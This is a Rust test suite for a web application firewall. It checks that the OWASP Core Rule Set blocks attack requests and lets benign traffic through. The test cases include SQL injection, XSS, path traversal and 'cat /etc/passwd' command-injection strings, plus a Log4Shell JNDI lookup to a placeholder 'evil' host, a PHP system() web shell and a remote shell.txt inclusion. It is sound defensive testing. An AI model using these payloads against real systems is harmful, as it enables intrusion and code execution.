//! Loads the real CRS 3.3 installed by Debian (with the Debian base config and crs-setup.conf)
//! and checks rule ids for requests whose ModSecurity answers are recorded in docs/design/waf.md §4.

use std::path::Path;
use std::rc::Rc;
use waf::config::{build, Config, Waf};
use waf::load::FileSource;
use waf::tx::Transaction;

mod support;
use support::{installed, Fs};

fn crs_config() -> Config {
    Config {
        rules: vec![
            "/etc/nginx/modsecurity.conf".into(),
            "/etc/modsecurity/crs/crs-setup.conf".into(),
            "/etc/modsecurity/crs/REQUEST-900-EXCLUSION-RULES-BEFORE-CRS.conf".into(),
            "/usr/share/modsecurity-crs/rules/*.conf".into(),
            "/etc/modsecurity/crs/RESPONSE-999-EXCLUSION-RULES-AFTER-CRS.conf".into(),
        ],
        mode: Some("block".into()),
        ..Config::default()
    }
}

fn crs() -> Option<Waf> {
    if !installed("/usr/share/modsecurity-crs/rules/REQUEST-942-APPLICATION-ATTACK-SQLI.conf") {
        return None;
    }
    let t = std::time::Instant::now();
    let w =
        build(&crs_config(), Some(&Fs), None).unwrap_or_else(|e| panic!("CRS load failed: {e}"));
    eprintln!("CRS loaded in {:?}: {:?}", t.elapsed(), w.engine.stats);
    Some(w)
}

struct Req<'a> {
    method: &'a str,
    uri: &'a str,
    headers: Vec<(&'a str, &'a str)>,
    body: Option<&'a [u8]>,
}

fn get(uri: &str) -> Req<'_> {
    Req {
        method: "GET",
        uri,
        headers: vec![],
        body: None,
    }
}

fn run(w: &Waf, r: &Req) -> Transaction {
    let mut headers: Vec<(String, String)> = vec![
        ("Host".into(), "localhost".into()),
        (
            "User-Agent".into(),
            "Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0".into(),
        ),
        ("Accept".into(), "*/*".into()),
    ];
    for (k, v) in &r.headers {
        headers.retain(|(hk, _)| !hk.eq_ignore_ascii_case(k));
        headers.push((k.to_string(), v.to_string()));
    }
    if let Some(b) = r.body {
        headers.push(("Content-Length".into(), b.len().to_string()));
    }
    let mut tx = w.transaction();
    tx.set_request(
        r.method,
        r.uri,
        "HTTP/1.1",
        &headers,
        "127.0.0.1:40000",
        "test-1",
    );
    tx.run_phase(1);
    if let Some(b) = r.body {
        let ct = headers
            .iter()
            .find(|(k, _)| k.eq_ignore_ascii_case("content-type"))
            .map(|(_, v)| v.clone());
        tx.process_body(b, ct.as_deref());
    }
    tx.run_phase(2);
    tx.run_phase(5);
    tx
}

fn ids(tx: &Transaction) -> Vec<u32> {
    tx.logs.iter().map(|l| l.id).collect()
}

fn status(tx: &Transaction) -> u16 {
    tx.intervention.map(|i| i.status).unwrap_or(200)
}

#[test]
fn crs_loads_and_matches_modsecurity_table() {
    let Some(w) = crs() else { return };
    assert!(w.engine.stats.rules > 600, "{:?}", w.engine.stats);
    // (request, expected status, rule ids ModSecurity logged; ours must contain them)
    let xml_body = b"<a>1 union select password from users</a>".as_slice();
    let json_body = br#"{"a":"1 union select password from users"}"#.as_slice();
    let mp = b"--XX\r\nContent-Disposition: form-data; name=\"f\"; filename=\"x.php\"\r\nContent-Type: text/plain\r\n\r\nhello\r\n--XX--\r\n".as_slice();
    let cases: Vec<(Req, u16, Vec<u32>)> = vec![
        (get("/echo?q=hello"), 200, vec![]),
        (
            get("/echo?id=1%27%20or%20%271%27%3D%271"),
            403,
            vec![942100, 949110],
        ),
        (
            get("/echo?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
            403,
            vec![941100, 941110, 941160, 949110],
        ),
        (
            get("/echo?f=../../../../etc/passwd"),
            403,
            vec![930100, 930110, 930120, 932160, 949110],
        ),
        (
            get("/echo?c=%3Bcat%20/etc/passwd"),
            403,
            vec![930120, 932100, 932160, 949110],
        ),
        (
            get("/echo?x=%24%7Bjndi%3Aldap%3A%2F%2Fevil%2Fa%7D"),
            403,
            vec![932130, 949110],
        ),
        (
            get("/echo?p=%3C%3Fphp%20system(%24_GET%5Bc%5D)%3B%20%3F%3E"),
            403,
            vec![933100, 933130, 933160, 949110],
        ),
        (
            get("/echo?u=http://1.2.3.4/shell.txt?"),
            403,
            vec![931100, 931120, 949110],
        ),
        (
            Req {
                method: "POST",
                uri: "/echo",
                headers: vec![("Content-Type", "application/json")],
                body: Some(json_body),
            },
            403,
            vec![942100, 942190, 942270, 942360, 949110],
        ),
        (
            Req {
                method: "POST",
                uri: "/echo",
                headers: vec![("Content-Type", "application/xml")],
                body: Some(xml_body),
            },
            403,
            vec![942100, 942190, 942270, 942360, 949110],
        ),
        (
            Req {
                method: "POST",
                uri: "/echo",
                headers: vec![("Content-Type", "multipart/form-data; boundary=XX")],
                body: Some(mp),
            },
            403,
            vec![933110, 949110],
        ),
        (
            Req {
                method: "POST",
                uri: "/echo",
                headers: vec![("Content-Type", "application/json")],
                body: Some(b"{\"a\":"),
            },
            400,
            vec![200002],
        ),
        (
            Req {
                method: "GET",
                uri: "/echo",
                headers: vec![("User-Agent", "sqlmap/1.5")],
                body: None,
            },
            403,
            vec![913100, 949110],
        ),
    ];
    let mut failures = Vec::new();
    for (r, want_status, want_ids) in &cases {
        let tx = run(&w, r);
        let got = ids(&tx);
        let missing: Vec<u32> = want_ids
            .iter()
            .copied()
            .filter(|i| !got.contains(i))
            .collect();
        eprintln!(
            "{} {} -> {} {:?} score {}",
            r.method,
            r.uri,
            status(&tx),
            got,
            tx.anomaly_score()
        );
        if status(&tx) != *want_status || !missing.is_empty() {
            failures.push(format!(
                "{} {}: status {} (want {want_status}), ids {got:?}, missing {missing:?}",
                r.method,
                r.uri,
                status(&tx)
            ));
        }
    }
    assert!(failures.is_empty(), "{failures:#?}");
}

#[test]
fn crs_paranoia_and_detect_mode() {
    let Some(_) = crs() else { return };
    let mut cfg = crs_config();
    cfg.mode = Some("detect".into());
    let w = build(&cfg, Some(&Fs), None).unwrap();
    let tx = run(&w, &get("/echo?id=1%27%20or%20%271%27%3D%271"));
    assert!(tx.intervention.is_none());
    assert_eq!(tx.would_block.map(|i| i.rule_id), Some(949110));
    // PL2 rules fire only at paranoia 2
    let mut cfg = crs_config();
    cfg.paranoia = Some(2);
    let w2 = build(&cfg, Some(&Fs), None).unwrap();
    let w1 = build(&crs_config(), Some(&Fs), None).unwrap();
    let r = get("/echo?q=a%27b--");
    let (a, b) = (run(&w1, &r), run(&w2, &r));
    assert!(
        b.anomaly_score() >= a.anomaly_score(),
        "{} {}",
        a.anomaly_score(),
        b.anomaly_score()
    );
    let _ = Rc::clone(&w.engine);
}

#[test]
fn crs_benign_requests_pass() {
    let Some(w) = crs() else { return };
    let form =
        b"name=John+Smith&email=john%40example.com&comment=Nice+article%2C+thanks%21".as_slice();
    let cases = vec![
        get("/"),
        get("/index.html"),
        get("/static/app.js?v=1.2.3"),
        get("/search?q=rust+programming&page=2"),
        get("/api/v1/users/42"),
        Req {
            method: "POST",
            uri: "/contact",
            headers: vec![("Content-Type", "application/x-www-form-urlencoded")],
            body: Some(form),
        },
        Req {
            method: "POST",
            uri: "/api",
            headers: vec![("Content-Type", "application/json")],
            body: Some(br#"{"user":{"name":"ann","tags":["a","b"]},"n":3}"#),
        },
    ];
    for r in &cases {
        let tx = run(&w, r);
        assert_eq!(status(&tx), 200, "{} {} -> {:?}", r.method, r.uri, ids(&tx));
        assert!(
            ids(&tx).is_empty(),
            "{} {} -> {:?}",
            r.method,
            r.uri,
            ids(&tx)
        );
    }
}

#[test]
fn crs_throughput_smoke() {
    let Some(w) = crs() else { return };
    let r = get("/echo?q=hello+world&id=42");
    let n: usize = std::env::var("WAF_BENCH_N")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(2000);
    let t = std::time::Instant::now();
    for _ in 0..n {
        let tx = run(&w, &r);
        assert!(tx.intervention.is_none());
        if n == usize::MAX && tx.counters.0 > 0 && t.elapsed().as_nanos() < 1 {
            unreachable!();
        }
    }
    let tx = run(&w, &r);
    eprintln!(
        "rules evaluated {}, operator calls {}",
        tx.counters.0, tx.counters.1
    );
    let el = t.elapsed();
    eprintln!(
        "native: {:.1} us/request ({n} requests)",
        el.as_secs_f64() * 1e6 / n as f64
    );
}

/// What a transaction decided and logged, for comparing two engines.
fn outcome(tx: &Transaction) -> String {
    let logs: Vec<String> = tx
        .logs
        .iter()
        .map(|l| format!("{} {:?} {:?} {:?}", l.id, l.msg, l.var, l.data))
        .collect();
    format!(
        "{:?} {:?} score={} {}",
        tx.intervention,
        tx.would_block,
        tx.anomaly_score(),
        logs.join(" | ")
    )
}

/// id, method, uri, headers, body of a corpus entry.
type CorpusReq = (
    String,
    String,
    String,
    Vec<(String, String)>,
    Option<String>,
);

/// The memo of operator misses (waf::memo) and the gates folded at configure (tx::Fold) must
/// not change any answer: the 206-request differential corpus, run three times over in a
/// shuffled order through one engine (so the memo is warm with other requests' values), gives
/// exactly what an engine without memo and without folds gives.
#[test]
fn memo_and_folds_change_no_decision_log_or_score() {
    let Some(memo) = crs() else { return };
    let Some(mut plain) = crs() else { return };
    *plain.engine.memo.borrow_mut() = waf::memo::Memo::new(0);
    let folded = memo.snapshot.as_ref().map_or(0, |s| s.folded());
    assert!(folded > 100, "CRS paranoia gates not folded: {folded}");
    if let Some(s) = plain.snapshot.as_mut() {
        s.unfold();
    }
    let text = std::fs::read_to_string(
        Path::new(env!("CARGO_MANIFEST_DIR")).join("../../proxy/tests/waf/corpus.json"),
    )
    .expect("proxy/tests/waf/corpus.json");
    let corpus: Vec<serde_json::Value> = serde_json::from_str(&text).expect("corpus JSON");
    assert!(corpus.len() > 200, "corpus too small: {}", corpus.len());
    let s = |v: &serde_json::Value, k: &str| v[k].as_str().unwrap_or_default().to_string();
    let reqs: Vec<CorpusReq> = corpus
        .iter()
        .map(|c| {
            let headers = c["headers"]
                .as_array()
                .map(|a| {
                    a.iter()
                        .map(|p| {
                            (
                                p[0].as_str().unwrap_or_default().to_string(),
                                p[1].as_str().unwrap_or_default().to_string(),
                            )
                        })
                        .collect()
                })
                .unwrap_or_default();
            let body = c["body"].as_str().map(str::to_string);
            (s(c, "id"), s(c, "method"), s(c, "uri"), headers, body)
        })
        .collect();
    let run_one = |w: &Waf, r: &CorpusReq| {
        let req = Req {
            method: &r.1,
            uri: &r.2,
            headers: r.3.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect(),
            body: r.4.as_deref().map(str::as_bytes),
        };
        outcome(&run(w, &req))
    };
    let expected: Vec<String> = reqs.iter().map(|r| run_one(&plain, r)).collect();
    let n = reqs.len();
    let mut checked = 0;
    for round in 0..3 {
        // a different order each round: stride through the corpus
        let stride = [1, 7, 13][round];
        for k in 0..n {
            let i = (k * stride + round) % n;
            let got = run_one(&memo, &reqs[i]);
            assert_eq!(got, expected[i], "round {round}, request {}", reqs[i].0);
            checked += 1;
        }
    }
    let m = memo.engine.memo.borrow();
    eprintln!(
        "memo: {} values, {} skipped operator calls, {checked} requests compared",
        m.len(),
        m.hits
    );
    assert!(m.hits > 10_000, "the memo was not used: {} hits", m.hits);
}

/// The same files without `/etc/nginx/unicode.mapping` (a policy that does not grant it).
struct FsNoMap;

impl FileSource for FsNoMap {
    fn list(&self) -> Vec<String> {
        Fs.list()
            .into_iter()
            .filter(|f| !f.ends_with("/unicode.mapping"))
            .collect()
    }
    fn read(&self, path: &str) -> Result<Vec<u8>, String> {
        if path.ends_with("/unicode.mapping") {
            return Err("not offered".into());
        }
        Fs.read(path)
    }
}

#[test]
fn unicode_map_file_maps_curly_quotes_for_sqli_rules() {
    let Some(w) = crs() else { return };
    if !installed("/etc/nginx/unicode.mapping") {
        return;
    }
    // Debian's modsecurity.conf says `SecUnicodeMapFile unicode.mapping 20127`: U+2018/U+2019
    // map to `'`, so urlDecodeUni turns this into `x' or 'x'='x` for the SQLi rules.
    let uri = "/echo?name=x%u2019%20or%20%u2018x%u2019%3D%u2018x";
    assert!(w.engine.settings.unicode_map.is_some());
    let tx = run(&w, &get(uri));
    assert_eq!(status(&tx), 403, "{:?}", ids(&tx));
    assert!(
        ids(&tx).iter().any(|&id| (942000..943000).contains(&id)),
        "{:?}",
        ids(&tx)
    );
    // Without the map (not granted: a warning, not a load error) %u2019 is its low byte.
    let nomap = build(&crs_config(), Some(&FsNoMap), None).unwrap();
    assert!(nomap.engine.settings.unicode_map.is_none());
    assert!(
        nomap.engine.stats.warnings[0].contains("SecUnicodeMapFile"),
        "{:?}",
        nomap.engine.stats.warnings
    );
    let tx = run(&nomap, &get(uri));
    assert!(
        !ids(&tx).iter().any(|&id| (942000..943000).contains(&id)),
        "{:?}",
        ids(&tx)
    );
}

/// The skips that answer from the memo without evaluating (a rule whose shared values are all
/// known misses is skipped whole; a TX key selector matching no key walks nothing) must not
/// hide an attack that differs from warm benign traffic by one byte, in a value of a list the
/// skip knew, nor a TX key written during the request.
#[test]
fn warm_memo_skips_do_not_hide_a_one_byte_attack() {
    let Some(memo) = crs() else { return };
    let Some(plain) = crs() else { return };
    *plain.engine.memo.borrow_mut() = waf::memo::Memo::new(0);
    // benign, then the same request with one byte changed into an attack
    let pairs = [
        // `'` for `x`: SQLi in a query value the memo knows without it
        ("/echo?id=1x+or+x1x%3Dx1", "/echo?id=1%27+or+%271%27%3D%271"),
        // `<` for `(`: XSS
        ("/echo?q=(script%3Ealert(1)", "/echo?q=%3Cscript%3Ealert(1)"),
        // `.` for `_`: path traversal
        (
            "/echo?f=._%2F..%2F..%2Fetc%2Fpasswd",
            "/echo?f=..%2F..%2F..%2Fetc%2Fpasswd",
        ),
        // `;` for `,`: shell
        (
            "/echo?c=,cat+%2Fetc%2Fpasswd",
            "/echo?c=%3Bcat+%2Fetc%2Fpasswd",
        ),
    ];
    for (benign, attack) in pairs {
        for _ in 0..4 {
            let tx = run(&memo, &get(benign));
            assert_eq!(
                outcome(&tx),
                outcome(&run(&plain, &get(benign))),
                "{benign}"
            );
        }
        let tx = run(&memo, &get(attack));
        assert_eq!(status(&tx), 403, "{attack}: {:?}", ids(&tx));
        assert_eq!(
            outcome(&tx),
            outcome(&run(&plain, &get(attack))),
            "{attack}"
        );
        // and the benign request once more: still what the plain engine says
        assert_eq!(
            outcome(&run(&memo, &get(benign))),
            outcome(&run(&plain, &get(benign))),
            "{benign} after {attack}"
        );
    }
    // header changed by one byte after warm requests (User-Agent of a scanner)
    let ua = |v: &'static str| Req {
        method: "GET",
        uri: "/",
        headers: vec![("User-Agent", v)],
        body: None,
    };
    for _ in 0..4 {
        run(&memo, &ua("nikto-ish/2.1"));
    }
    let tx = run(&memo, &ua("Nikto/2.1"));
    assert_eq!(outcome(&tx), outcome(&run(&plain, &ua("Nikto/2.1"))));
    assert!(ids(&tx).contains(&913100), "scanner UA: {:?}", ids(&tx));
}
